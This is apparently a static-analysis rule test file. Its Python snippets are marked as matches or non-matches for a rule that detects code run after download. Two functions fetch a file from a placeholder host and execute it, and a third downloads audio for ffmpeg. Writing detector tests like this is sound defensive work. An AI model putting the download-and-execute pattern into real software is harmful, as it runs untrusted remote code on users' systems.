import requests, subprocess, sys, urllib.request


def a():
    path = "/tmp/tool"
    # ruleid: remote-code-started-after-download
    urllib.request.urlretrieve("https://a.invalid/t", path)
    os.chmod(path, 0o755)
    subprocess.run([path])


def b(file):
    # ruleid: remote-code-started-after-download
    file.write_bytes(requests.get("https://a.invalid/t").content)
    subprocess.Popen([str(file), "-d"])


def c(file):
    # ok: remote-code-started-after-download
    file.write_bytes(requests.get("https://a.invalid/song.mp3").content)
    subprocess.run(["ffmpeg", "-i", str(file)])
